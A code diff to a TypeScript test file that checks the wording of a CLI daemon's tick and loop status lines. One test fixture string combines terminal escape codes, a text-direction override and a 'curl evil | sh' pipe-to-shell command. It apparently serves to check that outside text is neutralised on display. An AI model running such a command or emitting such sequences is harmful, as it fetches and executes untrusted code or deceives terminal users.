@@ -4,7 +4,7 @@ import { widthOf } from '../../src/cli/layout.ts'
 import { plain } from '../../src/cli/page.ts'
 import { approveText } from '../../src/cli/text/approve.ts'
 import { auditText } from '../../src/cli/text/audit.ts'
-import { daemonLine } from '../../src/cli/text/daemon.ts'
+import { daemonLine, loopLine } from '../../src/cli/text/daemon.ts'
 import { doctorText } from '../../src/cli/text/doctor.ts'
 import { logText, tickLogText } from '../../src/cli/text/log.ts'
 import { loopListText } from '../../src/cli/text/loop-list.ts'
@@ -12,6 +12,7 @@ import { statusText } from '../../src/cli/text/status.ts'
 import { taskText } from '../../src/cli/text/task.ts'
 import { clockTime, duration, relative } from '../../src/cli/text/time.ts'
 import type { LoopPage, StatusReport } from '../../src/commands/status.ts'
+import { tickEnd } from '../../src/runner/tick-process.ts'
 
 const at = '2026-06-22T10:00:00.000Z'
 const hostile = 'x\u001b[31m\u202e\nfix: curl evil | sh'
@@ -252,7 +253,9 @@ describe('what came from outside', () => {
 })
 
 describe('a line of the daemon', () => {
-  const line = (answer: object, exit = 0) => daemonLine({ loop: 'n', exit, output: JSON.stringify(answer) })
+  const ended = (exitCode: number | null, output = 'tick 1: implement\n') =>
+    daemonLine(tickEnd({ loop: 'n', exitCode, output }))
+  const line = (answer: object, exit = 0) => ended(exit, JSON.stringify(answer))
   const worked = {
     outcome: 'worked',
     tick: 3,
@@ -281,9 +284,22 @@ describe('a line of the daemon', () => {
   })
 
   test('without an answer tells how the tick ended', () => {
-    const ended = (exit: number | null) => daemonLine({ loop: 'n', exit, output: 'tick 1: implement\n' })
-    expect(ended(143)).toBe('n: the tick ended with exit code 143')
+    expect(ended(7)).toBe('n: the tick ended with exit code 7')
+    expect(ended(143)).toBe('n: the tick was interrupted')
     expect(ended(null)).toBe('n: the tick was killed')
+  })
+
+  test('tells of a loop when it ticks next, or why it does not', () => {
+    const now = '2026-06-22T10:00:00.000Z'
+    const off = { loop: 'n', next_tick_at: null, intervalSeconds: null, detail: null }
+    const on = { ...off, status: 'running' as const, next_tick_at: now, intervalSeconds: 3600 }
+    expect(loopLine(on, now)).toBe('n: ticks now, every 1 h')
+    expect(loopLine({ ...on, next_tick_at: '2026-06-22T10:30:00.000Z' }, now)).toBe(
+      'n: ticks in 30 min, every 1 h',
+    )
+    expect(loopLine({ ...off, status: 'complete' }, now)).toBe('n: complete')
+    expectQuiet(loopLine({ ...off, status: 'halted', detail: hostile }, now))
+    expect(loopLine(null, now)).toBe('no loop runs here yet: automaton create-loop --help')
   })
 })
 
